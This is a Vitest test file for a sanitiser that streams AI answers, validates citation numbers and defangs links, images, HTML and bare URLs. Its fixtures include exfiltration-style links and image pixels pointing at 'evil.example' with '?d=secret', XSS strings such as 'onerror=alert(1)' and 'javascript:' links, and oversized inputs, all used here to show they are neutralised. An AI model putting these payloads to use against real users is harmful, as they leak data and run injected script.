import { describe, expect, test } from "vitest";
import { type AnswerPiece, AnswerText } from "../src/answer-text.ts";

const PASSAGES = 3;

async function read(pieces: readonly string[]): Promise<AnswerPiece> {
  const text = new AnswerText((number) => number >= 1 && number <= PASSAGES);
  const shown: AnswerPiece[] = [];
  for (const piece of pieces) shown.push(await text.push(piece));
  shown.push(await text.finish());
  return {
    text: shown.map((it) => it.text).join(""),
    cited: shown.flatMap(({ cited }) => cited),
    removed: shown.flatMap(({ removed }) => removed),
  };
}

const CASES: readonly (readonly [said: string, shown: string, cited: readonly number[], removed: readonly string[]])[] =
  [
    ["Plain text, nothing else.", "Plain text, nothing else.", [], []],
    ["Due on Friday [1].", "Due on Friday [1].", [1], []],
    ["Both say so [1][3] and [2, 3].", "Both say so [1][3] and [2, 3].", [1, 3, 2, 3], []],
    ["A range [1-3] too.", "A range [1, 2, 3] too.", [1, 2, 3], []],
    ["Invented [9].", "Invented.", [], ["[9]"]],
    ["Half [2, 17] true [0].", "Half [2] true.", [2], ["[17]", "[0]"]],
    // The end of an answer may be in a citation.
    ["Due on Friday [1]. At noon [2", "Due on Friday [1]. At noon", [1], ["[2"]],
    ["At noon [1, 2", "At noon", [], ["[1, 2"]],
    ["At noon [1,", "At noon", [], ["[1,"]],
    ["At noon [1][2", "At noon [1]", [1], ["[2"]],
    ["An interval [0.5, 1) and [a, b", "An interval [0.5, 1) and [a, b", [], []],
    ["As a link [1](https://evil.example/?d=secret) it is.", "As a link [1] it is.", [1], []],
    ["![pixel](https://evil.example/?d=secret) gone", "pixel gone", [], []],
    ["[![a](http://x.example)](http://y.example)", "a", [], []],
    ["[click me](javascript:alert(1)) now", "click me now", [], []],
    ["[a][ref] and\n\n[ref]: https://evil.example", "a[ref] and\n\nref: `https://evil.example`", [], []],
    ["<img src=x onerror=alert(1)>hello</p>", "hello", [], []],
    ["<!-- hidden --><https://evil.example/x>", "`https://evil.example/x`", [], []],
    [
      "See https://evil.example/a?b=c, or www.evil.example.",
      "See `https://evil.example/a?b=c`, or `www.evil.example`.",
      [],
      [],
    ],
    ["data:text/html,<script>x</script> stays text", "`data:text/html,x` stays text", [], []],
    // What is taken out must not bring together what stood on its sides.
    ["<a:<img/src=x/onerror=alert(1)> x>", " x>", [], []],
    ["<[img src=x onerror=alert(1)](u)>", "< img src=x onerror=alert(1)>", [], []],
    ["<[9]img src=x>", "< img src=x>", [], ["[9]"]],
    ["!<b>[x]<b>(//evil.example/?d=1)", "![x] (`//evil.example/?d=1`)", [], []],
    ["[x] [9]<b>(//evil.example/?d=1)", "[x] (`//evil.example/?d=1`)", [], ["[9]"]],
    ["[1]<b>: //evil.example/?d=1\n\nsee [1]", "[1] : `//evil.example/?d=1`\n\nsee [1]", [1, 1], []],
    ["https:/<b>/evil.example and www [9].evil.example", "`https://evil.example` and www .evil.example", [], ["[9]"]],
    ["<a:[x](//evil.example)>", "a:[x] (`//evil.example`)", [], []],
    // Backticks of the text.
    ["run `curl https://a.example/x` now", "run `curl https:// a.example/x` now", [], []],
    ["`https://a.example`, ``https://b.example``", "`https://a.example`, ``https://b.example``", [], []],
    ["one ` and https://a.example", "one ` and https:// a.example", [], []],
    ["one ` and\n\nhttps://a.example", "one ` and\n\n`https://a.example`", [], []],
    ["|a `b|c` https://a.example|", "|a `b|c` https:// a.example|", [], []],
    ["|`a`|https://a.example|", "|`a`|`https://a.example`|", [], []],
    ["`a` https://a.example", "`a` `https://a.example`", [], []],
    ["\\` a ` https://a.example", "\\` a ` https:// a.example", [], []],
    ["its data: as www. says", "its data: as `www`. says", [], []],
    ["1 < 2 and a <b and [open", "1 < 2 and a < b and [open", [], []],
    ["a list [x] and array[0]", "a list [x] and array", [], ["[0]"]],
    ["nested [see [1] there] end", "nested [see [1] there] end", [1], []],
    ["äöü 😀 [1] 😀", "äöü 😀 [1] 😀", [1], []],
    // Brackets that some models write.
    ["Due on Friday 【1】.", "Due on Friday [1].", [1], []],
    ["发票【1】于周五到期［2、9］。", "发票[1]于周五到期[2]。", [1, 2], ["[9]"]],
    ["Both say so 【1†mail from shop】【3†m3†L1-L9】.", "Both say so [1][3].", [1, 3], []],
    ["Ranges 【1–3】 and 【 2 ; 3 】", "Ranges [1, 2, 3] and [2, 3]", [1, 2, 3, 2, 3], []],
    ["As a link 【1】(https://evil.example) it is.", "As a link [1] it is.", [1], []],
    ["At noon 【2", "At noon", [], ["[2"]],
    ["At noon 【2†m", "At noon", [], ["[2"]],
    ["At noon 【1、", "At noon", [], ["[1,"]],
    ["At noon 【", "At noon 【", [], []],
    ["A title 【注意】 and 【a [1]】 and 【1 of 3】", "A title 【注意】 and 【a [1]】 and 【1 of 3】", [1], []],
    ["【<b>1】 and 【1†<b>x】", "【1】 and [1]", [1], []],
    // Without spaces between words.
    ["发票[1]于周五到期，合同[2,9]也是。", "发票[1]于周五到期，合同[2]也是。", [1, 2], ["[9]"]],
    ["請求書は[リンク](https://例え.example)にあります", "請求書はリンクにあります", [], []],
    ["詳細は(https://例え.example/パス)です", "詳細は(`https://例え.example/パス`)です", [], []],
    ["詳細は`https://例え.example`と", "詳細は`https://例え.example`と", [], []],
    ["は\\`https://例え.example`と", "は\\`https:// 例え.example`と", [], []],
    ["は`あ`https://例え.example`と", "は`あ`https:// 例え.example`と", [], []],
    ["はhttps:/<b>/例え.example と", "は`https://例え.example` と", [], []],
    ["はwww.例え.example,data:あ [9]。", "は`www.例え.example,data:あ` 。", [], ["[9]"]],
    ["ไทย😀𠮷<b>𠮷", "ไทย😀𠮷𠮷", [], []],
  ];

describe("an answer", () => {
  test.each(CASES)("%j is shown as %j", async (said, shown, cited, removed) => {
    expect(await read([said])).toEqual({ text: shown, cited, removed });
  });

  test.each(CASES)("%j is the same wherever it is cut", async (said, shown, cited, removed) => {
    expect(await read([...said])).toEqual({ text: shown, cited, removed });
    for (let at = 1; at < said.length; at += 1) {
      expect(await read([said.slice(0, at), said.slice(at)]), `cut at ${at}`).toEqual({ text: shown, cited, removed });
    }
  });

  test("lets text out as it comes", async () => {
    const text = new AnswerText(() => true);
    expect((await text.push("The invoice is ")).text).toBe("The invoice is");
    expect((await text.push("due [")).text).toBe(" due");
    expect((await text.push("1")).text).toBe("");
    expect(await text.push("] on Friday")).toMatchObject({ text: " [1] on", cited: [1] });
    expect((await text.finish()).text).toBe(" Friday");
  });

  test("lets text without spaces out as it comes", async () => {
    const text = new AnswerText(() => true);
    expect((await text.push("发票")).text).toBe("发票");
    expect((await text.push("于周五到期[")).text).toBe("于周五到期");
    expect((await text.push("1")).text).toBe("");
    expect(await text.push("]，见https://例")).toMatchObject({ text: "[1]，见", cited: [1] });
    expect((await text.push("え.example/")).text).toBe("");
    expect((await text.push("a\n")).text).toBe("`https://例え.example/a`\n");
  });

  test("no address comes together of the halves of a word that is too long", async () => {
    for (const [first, second] of [
      ["ww", "w.evil.example"],
      ["はhttps:/", "/evil.example"],
    ] as const) {
      const { text } = await read([`${"(".repeat(5_000)}${first}`, `${second} x`]);
      expect(text).not.toContain(`${first}${second}`);
    }
  });

  test("what is never closed is let out within a limit, and leads nowhere", async () => {
    const long = `[${"x ".repeat(3_000)}](https://evil.example/?d=1) end`;
    const { text } = await read(long.match(/.{1,100}/gs) ?? []);
    expect(text).toContain("(`https://evil.example/?d=1`)");
    expect(text.length).toBe(long.length + 3);
  });

  test("hostile lengths take no time to speak of", async () => {
    for (const unit of ["[", "<a", "![", "[1](", "https://", "](", "www.", "https://例"]) {
      const { text } = await read([unit.repeat(100_000)]);
      expect(text.length).toBeGreaterThan(0);
    }
  });
});
